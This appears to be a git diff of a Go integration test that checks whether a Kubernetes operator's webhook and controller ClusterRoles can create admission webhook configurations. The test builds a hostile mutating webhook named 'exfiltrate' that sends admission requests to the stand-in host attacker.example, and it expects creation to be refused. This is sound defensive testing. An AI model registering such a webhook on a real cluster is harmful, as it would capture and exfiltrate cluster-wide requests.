@@ -20,15 +20,21 @@ import (
 )
 
 // TestReview4OperatorRoleCannotCreateAdmissionObjects: the operator's
-// ClusterRole, as installed in a cluster (config/rbac/role.yaml, the chart's
-// clusterrole.yaml), let its ServiceAccount create any
+// ClusterRole, as installed in a cluster (config/rbac/*/role.yaml, the
+// chart's clusterrole-*.yaml), let its ServiceAccount create any
 // MutatingWebhookConfiguration or ValidatingWebhookConfiguration, of any
 // name, though in a cluster it never creates one (Target.CreatesMissing is
 // false): whoever held its token could register a mutating webhook of its
 // own on every resource of every namespace, kube-system included.
 func TestReview4OperatorRoleCannotCreateAdmissionObjects(t *testing.T) {
+	for _, identity := range []string{"webhook", "controller"} {
+		t.Run(identity, func(t *testing.T) { testRoleCannotCreateAdmissionObjects(t, identity) })
+	}
+}
+
+func testRoleCannotCreateAdmissionObjects(t *testing.T, identity string) {
 	ctx := context.Background()
-	raw, err := config.Tree.ReadFile("rbac/role.yaml")
+	raw, err := config.Tree.ReadFile("rbac/" + identity + "/role.yaml")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -36,11 +42,11 @@ func TestReview4OperatorRoleCannotCreateAdmissionObjects(t *testing.T) {
 	if err := yaml.Unmarshal(raw, &role); err != nil {
 		t.Fatal(err)
 	}
-	const user = "review4-operator"
-	role.ObjectMeta = metav1.ObjectMeta{Name: "review4-operator-role"}
+	user := "review4-" + identity
+	role.ObjectMeta = metav1.ObjectMeta{Name: "review4-" + identity + "-role"}
 	createAdmin(t, &role)
 	createAdmin(t, &rbacv1.ClusterRoleBinding{
-		ObjectMeta: metav1.ObjectMeta{Name: "review4-operator-role"},
+		ObjectMeta: metav1.ObjectMeta{Name: role.Name},
 		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name},
 		Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, Name: user}},
 	})
@@ -48,7 +54,7 @@ func TestReview4OperatorRoleCannotCreateAdmissionObjects(t *testing.T) {
 	waitAllowed(t, user, authorizationv1.ResourceAttributes{Verb: "list", Resource: "namespaces"})
 	op := impersonate(t, user)
 	evil := &admissionv1.MutatingWebhookConfiguration{
-		ObjectMeta: metav1.ObjectMeta{Name: "review4-exfiltrate"},
+		ObjectMeta: metav1.ObjectMeta{Name: "review4-exfiltrate-" + identity},
 		Webhooks: []admissionv1.MutatingWebhook{{
 			Name:                    "exfiltrate.attacker.example",
 			ClientConfig:            admissionv1.WebhookClientConfig{URL: new("https://attacker.example/")},
@@ -61,7 +67,7 @@ func TestReview4OperatorRoleCannotCreateAdmissionObjects(t *testing.T) {
 			}},
 		}},
 	}
-	validating := &admissionv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "review4-exfiltrate"}}
+	validating := &admissionv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "review4-exfiltrate-" + identity}}
 	// The author policy and its binding, which refuse no pod, the operator
 	// does create wherever they are missing (EnsureAuthorPolicy).
 	for _, obj := range []client.Object{evil, validating} {
